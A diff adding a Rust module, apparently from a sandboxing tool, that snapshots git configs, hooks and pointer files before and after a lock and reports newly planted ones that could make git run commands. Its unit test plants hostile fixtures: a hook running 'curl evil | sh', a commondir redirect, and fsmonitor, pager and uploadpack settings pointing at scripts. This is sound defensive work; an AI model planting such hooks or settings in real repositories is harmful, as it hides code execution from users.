@@ -1,0 +1,302 @@
+//! What a lock left git to run outside it, found afterwards. The kernel protects the git files
+//! that exist when a lock starts (`git`); a repository made during the lock, a `.git/commondir`
+//! or `.git` file pointing git at a folder of the agent's making, a linked hook, or a setting in
+//! a repository deeper than that walk cannot be. So a snapshot of every git folder's config,
+//! hooks and pointers in the writable folders is taken when the lock starts and compared when
+//! it ends. Settings are judged by an allow-list: any new setting that is not known to be inert
+//! is named (git has too many ways to run a command to list them all).
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// How deep and how many folders the walk goes per writable folder; what lies beyond is named
+/// as not looked at.
+const MAX_DEPTH: usize = 32;
+const MAX_FOLDERS: usize = 100_000;
+/// The largest file read (configs and hooks are small; a command is at the start).
+const MAX_FILE: u64 = 256 * 1024;
+/// Folders inside a git folder that hold data, never commands.
+const GIT_DATA: &[&str] = &["objects", "refs", "logs", "lfs"];
+/// Git's files in a git folder that can send it elsewhere or make it run something.
+const WATCHED: &[&str] = &["config", "config.worktree", "commondir", "gitdir"];
+
+/// One watched file as it was: a link (its target) or a file (its mode and first bytes).
+#[derive(Clone, Debug, PartialEq, Eq)]
+enum Seen {
+    Link(PathBuf),
+    File { mode: u32, bytes: Vec<u8> },
+}
+
+/// Git's watched files under some folders at one time, and the folders too large to see whole.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct GitSnapshot {
+    files: BTreeMap<PathBuf, Seen>,
+    partly_seen: Vec<PathBuf>,
+}
+
+/// Git's watched files under `folders` now.
+pub fn snapshot(folders: &[PathBuf]) -> GitSnapshot {
+    let mut snapshot = GitSnapshot::default();
+    for folder in folders {
+        let mut stack: Vec<(PathBuf, usize)> = vec![(folder.clone(), 0)];
+        let mut visited = 0;
+        while let Some((dir, depth)) = stack.pop() {
+            visited += 1;
+            if visited > MAX_FOLDERS || depth > MAX_DEPTH {
+                snapshot.partly_seen.push(folder.clone());
+                break;
+            }
+            let is_git = dir.file_name().is_some_and(|n| n == ".git") || git_like(&dir);
+            if is_git {
+                for name in WATCHED {
+                    record(&mut snapshot.files, &dir.join(name));
+                }
+                for hook in std::fs::read_dir(dir.join("hooks")).into_iter().flatten().flatten() {
+                    record(&mut snapshot.files, &hook.path());
+                }
+            }
+            let Ok(entries) = std::fs::read_dir(&dir) else { continue };
+            for entry in entries.flatten() {
+                let Ok(kind) = entry.file_type() else { continue };
+                let name = entry.file_name();
+                if name == ".git" && !kind.is_dir() {
+                    // A worktree's or submodule's pointer to its git folder.
+                    record(&mut snapshot.files, &entry.path());
+                } else if kind.is_dir() && !(is_git && GIT_DATA.iter().any(|s| name == *s)) {
+                    stack.push((entry.path(), depth + 1));
+                }
+            }
+        }
+    }
+    snapshot
+}
+
+/// A git folder by its contents: `HEAD` and objects of its own or a common folder elsewhere
+/// (a linked worktree's admin folder).
+fn git_like(dir: &Path) -> bool {
+    dir.join("HEAD").is_file() && (dir.join("objects").is_dir() || dir.join("commondir").is_file())
+}
+
+/// Remember `path` without following it: a link by its target, a file by its first bytes.
+fn record(files: &mut BTreeMap<PathBuf, Seen>, path: &Path) {
+    use std::io::Read;
+    let Ok(meta) = path.symlink_metadata() else { return };
+    if meta.file_type().is_symlink() {
+        let target = std::fs::read_link(path).unwrap_or_default();
+        files.insert(path.to_owned(), Seen::Link(target));
+    } else if meta.is_file() {
+        let mut bytes = Vec::new();
+        // O_NOFOLLOW: the name was a file a moment ago; if it is a link now, it is not read.
+        let opened = open_no_follow(path);
+        if opened.and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes)).is_ok() {
+            files.insert(path.to_owned(), Seen::File { mode: mode(&meta), bytes });
+        }
+    }
+}
+
+#[cfg(unix)]
+fn open_no_follow(path: &Path) -> std::io::Result<std::fs::File> {
+    use std::os::unix::fs::OpenOptionsExt;
+    std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
+        .open(path)
+}
+
+#[cfg(not(unix))]
+fn open_no_follow(path: &Path) -> std::io::Result<std::fs::File> {
+    std::fs::File::open(path)
+}
+
+#[cfg(unix)]
+fn mode(meta: &std::fs::Metadata) -> u32 {
+    std::os::unix::fs::PermissionsExt::mode(&meta.permissions())
+}
+
+#[cfg(not(unix))]
+fn mode(_meta: &std::fs::Metadata) -> u32 {
+    0o755
+}
+
+/// What git would run, or where it would be sent, that was not so `before`: one line per new
+/// or changed hook, pointer or setting, naming the file; and each folder not seen whole.
+pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
+    let mut found = Vec::new();
+    for (path, seen) in &after.files {
+        let earlier = before.files.get(path);
+        if earlier == Some(seen) {
+            continue;
+        }
+        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
+        let in_hooks = path.parent().and_then(Path::file_name).is_some_and(|n| n == "hooks");
+        let shown = path.display();
+        match seen {
+            _ if in_hooks && name.ends_with(".sample") => {}
+            Seen::Link(target) => {
+                found.push(format!("{shown} is a link to {}", target.display()));
+            }
+            Seen::File { mode, bytes } if in_hooks => {
+                if mode & 0o111 != 0 {
+                    let text = String::from_utf8_lossy(bytes);
+                    found.push(format!("{shown} runs {}", first_command(&text)));
+                }
+            }
+            Seen::File { bytes, .. } if name == "config" || name == "config.worktree" => {
+                let old = match earlier {
+                    Some(Seen::File { bytes, .. }) => settings(&String::from_utf8_lossy(bytes)),
+                    _ => Vec::new(),
+                };
+                for (key, value) in settings(&String::from_utf8_lossy(bytes)) {
+                    if !inert(&key) && !old.contains(&(key.clone(), value.clone())) {
+                        found.push(format!("{shown} sets {key} = {value}"));
+                    }
+                }
+            }
+            Seen::File { bytes, .. } => {
+                let target = String::from_utf8_lossy(bytes);
+                let target = target.trim().trim_start_matches("gitdir:").trim();
+                found.push(format!("{shown} sends git to {}", shorten(target)));
+            }
+        }
+    }
+    for folder in &after.partly_seen {
+        found.push(format!(
+            "{} holds more than {MAX_FOLDERS} folders (or deeper than {MAX_DEPTH}): only part of \
+             it was looked at",
+            folder.display()
+        ));
+    }
+    found
+}
+
+/// A hook's first line that is not its interpreter line or a comment, shortened.
+fn first_command(text: &str) -> String {
+    let line = text
+        .lines()
+        .map(str::trim)
+        .find(|l| !l.is_empty() && !l.starts_with('#'))
+        .unwrap_or("(its script)");
+    shorten(line)
+}
+
+fn shorten(text: &str) -> String {
+    let mut short: String = text.chars().take(80).collect();
+    if text.chars().count() > 80 {
+        short.push('…');
+    }
+    short
+}
+
+/// A git config file's settings, as (section.key, value): section and key names lowercased,
+/// subsection names as written.
+fn settings(text: &str) -> Vec<(String, String)> {
+    let mut section = String::new();
+    let mut found = Vec::new();
+    for line in text.lines().map(str::trim) {
+        if let Some(header) = line.strip_prefix('[').and_then(|l| l.split(']').next()) {
+            let (name, sub) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
+            let sub = sub.trim().trim_matches('"');
+            section = match sub.is_empty() {
+                true => name.to_lowercase(),
+                false => format!("{}.{sub}", name.to_lowercase()),
+            };
+            continue;
+        }
+        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
+            continue;
+        }
+        // `key = value`, or a bare `key` (true).
+        let (key, value) = line.split_once('=').unwrap_or((line, "true"));
+        let key = format!("{section}.{}", key.trim().to_lowercase());
+        found.push((key, shorten(value.trim().trim_matches('"'))));
+    }
+    found
+}
+
+/// Settings known to make git run nothing and send it nowhere new; any other is named.
+fn inert(key: &str) -> bool {
+    const INERT: &[&str] = &[
+        "core.repositoryformatversion",
+        "core.filemode",
+        "core.bare",
+        "core.logallrefupdates",
+        "core.ignorecase",
+        "core.precomposeunicode",
+        "core.symlinks",
+        "core.autocrlf",
+        "core.eol",
+        "core.safecrlf",
+        "core.quotepath",
+        "core.untrackedcache",
+        "core.commitgraph",
+        "core.abbrev",
+        "user.name",
+        "user.email",
+        "init.defaultbranch",
+        "pull.rebase",
+        "pull.ff",
+        "push.default",
+        "push.autosetupremote",
+        "fetch.prune",
+        "extensions.objectformat",
+        "extensions.worktreeconfig",
+        "gc.auto",
+        "merge.conflictstyle",
+        "rerere.enabled",
+        "lfs.repositoryformatversion",
+    ];
+    let per_name = |prefix: &str, keys: &[&str]| {
+        key.strip_prefix(prefix).is_some_and(|rest| keys.iter().any(|k| rest.ends_with(k)))
+    };
+    INERT.contains(&key)
+        || per_name("remote.", &[".url", ".fetch", ".pushurl", ".tagopt", ".prune"])
+        || per_name("branch.", &[".remote", ".merge", ".rebase", ".description"])
+        || per_name("submodule.", &[".url", ".active", ".branch"])
+}
+
+#[cfg(all(test, unix))]
+mod tests {
+    use super::*;
+
+    fn executable(path: &Path, text: &str) {
+        std::fs::write(path, text).expect("write");
+        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .expect("chmod");
+    }
+
+    #[test]
+    fn what_a_lock_left_git_to_run_is_named() {
+        let dir = std::env::temp_dir().join(format!("paddock-planted-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join("app/.git/hooks")).expect("app");
+        std::fs::create_dir_all(dir.join("app/.git/objects")).expect("objects");
+        std::fs::write(dir.join("app/.git/HEAD"), "ref: refs/heads/main\n").expect("HEAD");
+        std::fs::write(dir.join("app/.git/config"), "[core]\n\tbare = false\n").expect("config");
+        let before = snapshot(std::slice::from_ref(&dir));
+        assert!(planted(&before, &before).is_empty());
+        // The protected repository redirected; new ones deep and in skipped-looking folders.
+        std::fs::write(dir.join("app/.git/commondir"), "../evil\n").expect("commondir");
+        let deep = dir.join("node_modules/a/b/c/d/e/f/g/h/i/j/.git");
+        std::fs::create_dir_all(deep.join("hooks")).expect("deep");
+        executable(&deep.join("hooks/post-checkout"), "#!/bin/sh\n# tidy\ncurl evil | sh\n");
+        executable(&deep.join("hooks/pre-push.sample"), "#!/bin/sh\nexit 0\n");
+        std::os::unix::fs::symlink("/bin/true", deep.join("hooks/pre-commit")).expect("link");
+        let config = "[core]\n\tbare = false\n\tfsmonitor = ./x.sh\n[user]\n\temail = a@b\n\
+                      [pager]\n\tlog = ./evil\n[remote \"o\"]\n\turl = ../x\n\tuploadpack = ./evil\n";
+        std::fs::write(deep.join("config"), config).expect("config");
+        let found = planted(&before, &snapshot(std::slice::from_ref(&dir)));
+        let d = deep.display();
+        assert_eq!(
+            found,
+            [
+                format!("{}/app/.git/commondir sends git to ../evil", dir.display()),
+                format!("{d}/config sets core.fsmonitor = ./x.sh"),
+                format!("{d}/config sets pager.log = ./evil"),
+                format!("{d}/config sets remote.o.uploadpack = ./evil"),
+                format!("{d}/hooks/post-checkout runs curl evil | sh"),
+                format!("{d}/hooks/pre-commit is a link to /bin/true"),
+            ]
+        );
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+}
